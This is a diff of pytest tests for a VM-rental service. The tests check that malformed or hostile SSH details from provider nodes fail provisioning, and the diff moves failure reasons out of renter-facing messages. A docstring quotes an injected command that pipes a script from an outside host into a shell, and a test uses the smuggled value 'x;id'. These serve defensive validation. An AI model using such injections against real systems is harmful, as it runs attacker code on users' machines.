@@ -95,12 +95,20 @@ def provision(monkeypatch, answer, address="10.0.0.1", retries=0) -> Instance:
     return instance
 
 
+def said(instance: Instance) -> str:
+    """The reason the instance's last job failed, as its provider and operators read it."""
+    return Job.objects.filter(instance=instance).latest("pk").error
+
+
 def assert_refused(instance: Instance, waited, words: str) -> None:
     """The node's answer was garbage: the instance failed with the reason, the VM was removed, nothing of the
     answer was recorded, and the worker connected nowhere."""
     job = Job.objects.get(instance=instance, kind=JobKind.INSTANCE_PROVISION)
     assert job.status == JobStatus.FAILED and words in job.error, job.error
-    assert instance.status == InstanceStatus.FAILED and words in instance.status_message
+    # The node's answer is its own word (provider-controlled text): the renter reads a sentence of their own
+    # (review r55 renter_web MEDIUM-1); the job keeps the reason for the provider and operators.
+    assert instance.status == InstanceStatus.FAILED and words not in instance.status_message
+    assert instance.status_message.startswith("Its server could not carry it out."), instance.status_message
     assert ("vm", "destroy") in instance.fake.calls  # type: ignore[attr-defined]
     assert instance.ssh_host == "" and instance.ssh_port is None and instance.ssh_user == ""
     assert instance.ports == {} and instance_ssh_command(instance) is None
@@ -117,7 +125,7 @@ def test_an_ssh_user_that_is_not_a_user_name_fails_the_provision_and_never_reach
     show `ssh -p 40001 x;curl 198.51.100.9|sh;@10.0.0.1`, run on the renter's machine when pasted."""
     instance = provision(monkeypatch, {**ANSWER, "ssh_user": user})
     assert_refused(instance, waited, "ssh_user")
-    assert "is not a POSIX user name" in instance.status_message
+    assert "is not a POSIX user name" in said(instance)
 
 
 # --------------------------------------------------------------------------------------------- ssh_port
@@ -128,7 +136,7 @@ def test_an_ssh_port_that_is_not_1_to_65535_is_the_nodes_garbage_not_a_crash(mon
     70000 or True were recorded as the renter's port."""
     instance = provision(monkeypatch, {**ANSWER, "ssh_port": port})
     assert_refused(instance, waited, "ssh_port")
-    assert "is not a port number (1 to 65535)" in instance.status_message
+    assert "is not a port number (1 to 65535)" in said(instance)
 
 
 # --------------------------------------------------------------------------------------------- ssh_host
@@ -151,7 +159,7 @@ def test_a_null_ssh_host_is_the_nodes_own_address_for_ssh_and_each_port(monkeypa
 def test_an_ssh_host_that_is_neither_an_ip_address_nor_a_hostname_is_the_nodes_garbage(monkeypatch, waited, host):
     instance = provision(monkeypatch, {**ANSWER, "ssh_host": host}, address=PUBLIC_NODE)
     assert_refused(instance, waited, "ssh_host")
-    assert "is neither an IP address nor a hostname" in instance.status_message
+    assert "is neither an IP address nor a hostname" in said(instance)
 
 
 @pytest.mark.parametrize(("host", "kind"), [
@@ -165,8 +173,8 @@ def test_a_public_node_may_not_point_renters_or_the_worker_at_internal_addresses
     network, a cloud's metadata service) and renters were shown it."""
     instance = provision(monkeypatch, {**ANSWER, "ssh_host": host}, address=PUBLIC_NODE)
     assert_refused(instance, waited, "ssh_host")
-    assert f"address, which a node at {PUBLIC_NODE} may not name" in instance.status_message
-    assert kind in instance.status_message
+    assert f"address, which a node at {PUBLIC_NODE} may not name" in said(instance)
+    assert kind in said(instance)
 
 
 def test_a_public_node_may_name_another_public_address_and_the_worker_waits_there(monkeypatch, waited):
@@ -212,7 +220,7 @@ def test_a_hostname_resolving_to_an_internal_address_is_the_nodes_garbage(monkey
     instance = provision(monkeypatch, {**ANSWER, "ssh_host": "metadata.provider.example"}, address=PUBLIC_NODE)
     assert_refused(instance, waited, "ssh_host")
     assert "metadata.provider.example, which resolves to 169.254.169.254, is a link-local address" in \
-        instance.status_message
+        said(instance)
 
 
 def test_the_nodes_own_hostname_is_checked_as_every_connection_to_the_node_is(monkeypatch, waited, dns):
@@ -248,7 +256,7 @@ def test_a_node_in_an_allowed_private_network_names_no_other_private_address(mon
     instance = provision(monkeypatch, {**ANSWER, "ssh_host": "10.9.0.1"}, address="10.8.0.1")
     assert_refused(instance, waited, "ssh_host")
     assert "10.9.0.1 is a private address, which a node at 10.8.0.1 may not name (outside the networks" in \
-        instance.status_message
+        said(instance)
     ok = provision(monkeypatch, {**ANSWER, "ssh_host": "10.8.7.7"}, address="10.8.0.2")
     assert ok.status == InstanceStatus.RUNNING and waited == [("10.8.7.7", 40001)], ok.status_message
 
@@ -259,7 +267,7 @@ def test_a_hostname_that_does_not_resolve_is_retried_then_fails_naming_it(monkey
         provision(monkeypatch, answer, address=PUBLIC_NODE)
     instance = provision(monkeypatch, answer, address=PUBLIC_NODE, retries=RETRIES_SPENT)
     assert instance.status == InstanceStatus.FAILED and waited == []
-    assert "The VM's ssh_host nowhere.provider.example does not resolve" in instance.status_message
+    assert "The VM's ssh_host nowhere.provider.example does not resolve" in said(instance)
 
 
 # --------------------------------------------------------------------------------------------- ports
@@ -290,7 +298,7 @@ def test_a_start_answer_is_checked_as_a_create_answer_is(monkeypatch, waited):
     instance.fake.answer["ssh_user"] = "x;id"  # type: ignore[attr-defined]
     run_in_worker(tasks.instance_start, Job.objects.get(instance=instance, kind=JobKind.INSTANCE_START))
     instance.refresh_from_db()
-    assert instance.status == InstanceStatus.STOPPED and "ssh_user 'x;id'" in instance.status_message
+    assert instance.status == InstanceStatus.STOPPED and "ssh_user 'x;id'" in said(instance)
     assert (instance.ssh_host, instance.ssh_user) == (PUBLIC_NODE, "root") and len(waited) == 1
 
 
